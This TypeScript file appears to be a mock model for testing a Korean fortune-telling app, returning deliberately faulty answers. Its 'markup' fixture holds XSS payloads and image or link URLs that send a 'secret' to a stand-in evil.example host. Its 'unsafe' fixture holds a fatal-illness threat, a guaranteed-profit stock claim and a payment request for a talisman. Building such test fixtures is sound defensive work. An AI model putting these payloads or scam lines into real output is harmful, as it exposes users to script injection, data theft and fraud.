import type { Saying } from '#model/behaviour.ts';
import { fillSchema } from '#model/fill-schema.ts';
import { chapterMarkdown, followUp, hashOf } from '#model/prose.ts';
import type { ChatRequest } from '#model/request.ts';
import type { Task } from '#model/task.ts';

/** What the model says: text, or a refusal in the field the protocol keeps for it. */
export type Said = { content: string } | { refusal: string };

const decline = '죄송하지만 요청하신 내용에는 도움을 드릴 수 없습니다.';
const english =
  'Your heart moves slowly but surely. The day branch shows a quiet warmth, and this month brings a calm meeting. ' +
  'Write one honest sentence today and send it tomorrow.';

/** Bytes of the longest answer. */
export const HUGE = 1024 * 1024;

/** The answer to a request, deterministic for its messages, bent as told. */
export function say(request: ChatRequest, task: Task, saying: Saying | undefined): Said {
  const format = request.response_format ?? undefined;
  const seed = task.prompt;
  const good = (): string => {
    if (format?.type === 'json_schema')
      return JSON.stringify(fillSchema(format.json_schema.schema, task, seed));
    if (format?.type === 'json_object') return JSON.stringify(plainObject(task, seed));
    return task.single ? chapterMarkdown(task.chapters[0], seed) : wholeReading(task, seed);
  };
  switch (saying) {
    case undefined:
      return { content: good() };
    case 'refusal':
      return format?.type === 'json_schema' ? { refusal: decline } : { content: decline };
    case 'english':
      return { content: format && format.type !== 'text' ? replaceStrings(good(), english) : english };
    case 'broken-json':
      return { content: (format && format.type !== 'text' ? good() : `{"title":"${decline}"`).slice(0, -3) };
    case 'wrong-schema':
      return {
        content: JSON.stringify({
          result: { text_ko: 1, list: [null, { 내용: followUp(seed, 0) }] },
          ok: 'yes',
        }),
      };
    case 'empty':
      return { content: '' };
    case 'invention':
      return { content: append(good(), invention(task)) };
    case 'markup':
      return { content: append(good(), markup) };
    case 'unsafe':
      return { content: append(good(), unsafe) };
    case 'huge':
      return { content: append(good(), filling(good())) };
  }
}

function plainObject(task: Task, seed: string): unknown {
  if (task.question !== undefined && task.single) {
    return {
      response: chapterMarkdown(task.chapters[0], seed),
      questions: [followUp(seed, 0), followUp(seed, 1)],
    };
  }
  const chapters = task.chapters.map((chapter) => ({
    title: chapter.title ?? '마음의 순서',
    markdown: chapterMarkdown(chapter, seed),
  }));
  return task.single ? chapters[0] : { chapters };
}

function wholeReading(task: Task, seed: string): string {
  return task.chapters
    .map((chapter) => `## ${chapter.title ?? '마음의 순서'}\n\n${chapterMarkdown(chapter, seed)}`)
    .join('\n\n');
}

const markup = [
  '<script>document.title="owned"</script>',
  '<img src="x" onerror="document.title=\'owned\'">',
  '<svg onload="document.title=\'owned\'"></svg>',
  '[자세히 보기](javascript:document.title="owned")',
  '[무료 상담](https://evil.example/?d=secret)',
  '![달](https://evil.example/moon.png?d=secret)',
  '<a href="data:text/html,owned">눌러 보세요</a>',
].join('\n\n');

const unsafe = [
  '이 인연과 헤어지면 반드시 큰 병을 얻어 올해를 넘기지 못합니다.',
  '지금 이 종목에 전 재산을 넣으면 무조건 두 배가 됩니다.',
  '부적 값 300만 원을 국민은행 123456-01-234567로 보내면 전액 환불을 약속합니다.',
].join(' ');

const stems = '갑을병정무기경신임계';
const branches = '자축인묘진사오미신유술해';
const names = ['김지훈', '이서연', '박민재', '최유나'];

/** Pillars, a year and a name that are nowhere in the prompt. */
function invention(task: Task): string {
  const cycle = Array.from({ length: 60 }, (_, nth) => `${stems[nth % 10]}${branches[nth % 12]}`);
  const foreign = cycle.filter((pillar) => !task.prompt.includes(pillar));
  const start = hashOf(task.prompt) % Math.max(1, foreign.length);
  const pillar = foreign[start] ?? '갑자';
  const name = names.find((candidate) => !task.prompt.includes(candidate)) ?? '김지훈';
  return (
    `당신의 일주는 ${pillar}일주이고 1974년 11월 23일 새벽 4시 17분에 태어났습니다. ` +
    `2093년 8월에 ${name} 씨와 결혼하며, 도화살이 여섯 개나 있습니다.`
  );
}

function filling(good: string): string {
  const line = '마음은 천천히 건넬수록 오래 남습니다. ';
  const missing = Math.max(0, HUGE - Buffer.byteLength(good));
  return line.repeat(Math.ceil(missing / Buffer.byteLength(line)));
}

/** Adds text to the longest string of a JSON answer, or to the end of a plain one. */
function append(good: string, addition: string): string {
  const parsed = parse(good);
  if (parsed === undefined) return `${good}\n\n${addition}`;
  const longest = strings(parsed).toSorted((a, b) => b.length - a.length)[0];
  return JSON.stringify(parsed, (_, value: unknown) =>
    value === longest ? `${longest}\n\n${addition}` : value,
  );
}

function replaceStrings(good: string, replacement: string): string {
  const longest = strings(parse(good)).filter((text) => text.length > 20);
  return JSON.stringify(parse(good), (_, value: unknown) =>
    typeof value === 'string' && longest.includes(value) ? replacement : value,
  );
}

function parse(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return undefined;
  }
}

function strings(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  return value instanceof Object ? Object.values(value).flatMap(strings) : [];
}
